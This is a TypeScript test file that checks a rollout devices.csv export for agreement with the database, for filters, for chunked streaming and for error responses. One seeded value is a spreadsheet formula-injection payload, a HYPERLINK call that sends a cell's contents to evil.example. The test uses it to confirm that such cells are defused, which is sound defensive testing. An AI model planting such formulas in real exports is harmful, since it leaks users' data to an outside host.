// The rollout's devices.csv equals the database: every deployment of the rollout once, with the
// same columns, with and without filters, across keyset chunk boundaries; formulas are defused;
// chunks are fetched only as the client reads. Runs on the demo seed (the fixture the demo uses).
import { parse } from "csv-parse/sync";
import { eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { queryRows, useDbHandle, type DbHandle } from "@/db/client";
import { deployments, devices, rollouts, waves } from "@/db/schema";
import { seedDemo } from "@/lib/seed/demo";
import { createTestDb, testDbKinds } from "@/db/test-db";
import { createApiToken } from "@/lib/auth/tokens";
import { GET } from "@/app/api/v1/rollouts/[id]/devices.csv/route";
import { CSV_COLUMNS, exportRolloutDevicesCsv } from "./devices-csv";

process.env.AUTH_SECRET ??= "test-secret-test-secret-test-secret-0123";

const system = { kind: "system", label: "test" } as const;
const BASE = "http://127.0.0.1:3999/api/v1";

type DbRow = Record<(typeof CSV_COLUMNS)[number], string>;

/** The oracle: the same rows straight from the tables, as the strings the CSV should carry. */
const EXPECTED = (rolloutId: number, where = sql``) => sql`
  select v.hostname, v.os_name as os, v.os_version, s.name as site, coalesce(dep.name, '') as department,
         d.channel::text as channel, coalesce(w.name, '') as wave, d.state::text as state,
         coalesce(d.error_code, '') as error_code, coalesce(d.alert::text, '') as alert, coalesce(d.message, '') as message,
         d.attempts::text as attempts,
         coalesce(to_char(d.last_reported_at at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS"Z"'), '') as last_reported_at,
         coalesce(b.name, '') as build, coalesce(tb.name, '') as wave_build,
         case when d.state = 'installed' and b.id < tb.id then 'yes' else '' end as behind
  from deployments d
  join devices v on v.id = d.device_id
  join sites s on s.id = v.site_id
  join rollouts r on r.id = d.rollout_id
  left join departments dep on dep.id = v.department_id
  left join waves w on w.id = d.wave_id
  left join builds b on b.id = d.build_id
  left join builds tb on tb.id = coalesce(w.build_id, r.build_id)
  where d.rollout_id = ${rolloutId} ${where}
  order by lower(v.hostname)`;

const parseCsv = (text: string) => parse(text, { columns: true, skip_empty_lines: true }) as DbRow[];
/** What a spreadsheet-safe cell looks like for a database value. */
const defused = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

describe.each(testDbKinds)("rollout devices.csv on %s", (kind) => {
  let handle: DbHandle;
  let token: string;
  let rolloutId: number;

  beforeAll(async () => {
    handle = await createTestDb(kind);
    useDbHandle(handle);
    await seedDemo(handle.db, { now: new Date("2025-03-14T09:30:00Z") });
    token = (await createApiToken(system, { name: "reader", scopes: ["read"] })).token;
    [{ id: rolloutId }] = await handle.db.select({ id: rollouts.id }).from(rollouts).limit(1);
    // A message and a hostname a spreadsheet would run as formulas.
    const [target] = await handle.db.select({ id: deployments.id, deviceId: deployments.deviceId }).from(deployments).where(eq(deployments.rolloutId, rolloutId)).limit(1);
    await handle.db.update(deployments).set({ message: '=HYPERLINK("http://evil.example/?x="&A1,"click")', errorCode: "-0x1" }).where(eq(deployments.id, target.id));
    await handle.db.update(devices).set({ hostname: "@SUM(1+1)" }).where(eq(devices.id, target.deviceId));
  }, 240_000);
  afterAll(() => handle?.close());

  const get = (query: string, auth = true) =>
    GET(new Request(`${BASE}/rollouts/${rolloutId}/devices.csv${query}`, { headers: auth ? { authorization: `Bearer ${token}` } : {} }), {
      params: Promise.resolve({ id: String(rolloutId) }),
    });

  it("exports every deployment of the rollout once, equal to the tables", async () => {
    const res = await get("");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="windows-xp-sp2-rollout-\d+-devices-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = await res.text();
    expect(text.split("\r\n")[0]).toBe(CSV_COLUMNS.join(","));
    const rows = parseCsv(text);
    const expected = await queryRows<DbRow>(handle.db, EXPECTED(rolloutId));
    expect(expected.length).toBeGreaterThan(1000);
    expect(rows).toEqual(expected.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, defused(v)]))));
    expect(new Set(rows.map((r) => r.hostname.toLowerCase())).size).toBe(rows.length);
  });

  it("defuses cells a spreadsheet would run as formulas", async () => {
    const rows = parseCsv(await (await get("")).text());
    const row = rows.find((r) => r.hostname === "'@SUM(1+1)");
    expect(row).toBeDefined();
    expect(row!.message).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(row!.error_code).toBe("'-0x1");
    for (const r of rows) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@]/);
  });

  it("applies state, wave, site and OS filters like the database does", async () => {
    const [wave] = await handle.db.select({ id: waves.id }).from(waves).where(eq(waves.rolloutId, rolloutId)).orderBy(waves.position).offset(1).limit(1);
    const [{ site, os }] = await queryRows<{ site: string; os: string }>(
      handle.db,
      sql`select s.name as site, v.os_name as os from deployments d join devices v on v.id = d.device_id join sites s on s.id = v.site_id
          where d.rollout_id = ${rolloutId} group by 1, 2 order by count(*) desc limit 1`,
    );
    const cases: [string, ReturnType<typeof sql>][] = [
      ["?state=failed", sql`and d.state = 'failed'`],
      [`?wave=${wave.id}`, sql`and d.wave_id = ${wave.id}`],
      [`?site=${encodeURIComponent(site.toUpperCase())}&os=${encodeURIComponent(os)}`, sql`and lower(s.name) = lower(${site}) and v.os_name = ${os}`],
      [`?wave=${wave.id}&state=installed&site=&os=`, sql`and d.wave_id = ${wave.id} and d.state = 'installed'`],
    ];
    for (const [query, where] of cases) {
      const rows = parseCsv(await (await get(query)).text());
      const expected = await queryRows<DbRow>(handle.db, EXPECTED(rolloutId, where));
      expect(expected.length, query).toBeGreaterThan(0);
      expect(rows.map((r) => r.hostname), query).toEqual(expected.map((r) => defused(r.hostname)));
    }
  });

  it("gives the same rows across chunk boundaries, fetching a chunk only when the previous one was read", async () => {
    const whole = await readAll((await exportRolloutDevicesCsv(system, rolloutId, {})).stream);
    const chunked = await readAll((await exportRolloutDevicesCsv(system, rolloutId, {}, { chunkSize: 97 })).stream);
    expect(chunked).toBe(whole);
    const exact = parseCsv(whole).length;
    const atBoundary = await readAll((await exportRolloutDevicesCsv(system, rolloutId, {}, { chunkSize: exact })).stream);
    expect(atBoundary).toBe(whole);

    const execute = vi.spyOn(handle.db, "execute");
    try {
      const { stream } = await exportRolloutDevicesCsv(system, rolloutId, {}, { chunkSize: 50 });
      const reader = stream.getReader();
      const header = await reader.read();
      expect(new TextDecoder().decode(header.value)).toBe(`${CSV_COLUMNS.join(",")}\r\n`);
      const first = await reader.read();
      expect(parse(new TextDecoder().decode(first.value))).toHaveLength(50);
      const queriesAfterOneChunk = execute.mock.calls.length;
      expect(queriesAfterOneChunk).toBe(1);
      await reader.cancel();
      await new Promise((r) => setTimeout(r, 50));
      expect(execute.mock.calls.length).toBe(queriesAfterOneChunk);
    } finally {
      execute.mockRestore();
    }
  });

  it("answers problem+json for bad filters, unknown rollouts and missing credentials", async () => {
    const bad = await get("?state=exploded&wave=-3");
    expect(bad.status).toBe(400);
    expect(bad.headers.get("content-type")).toBe("application/problem+json");
    const body = (await bad.json()) as { errors: { path: string }[] };
    expect(body.errors.map((e) => e.path).sort()).toEqual(["state", "wave"]);

    const missing = await GET(new Request(`${BASE}/rollouts/999999/devices.csv`, { headers: { authorization: `Bearer ${token}` } }), { params: Promise.resolve({ id: "999999" }) });
    expect(missing.status).toBe(404);
    const anonymous = await get("", false);
    expect(anonymous.status).toBe(401);
  });
});
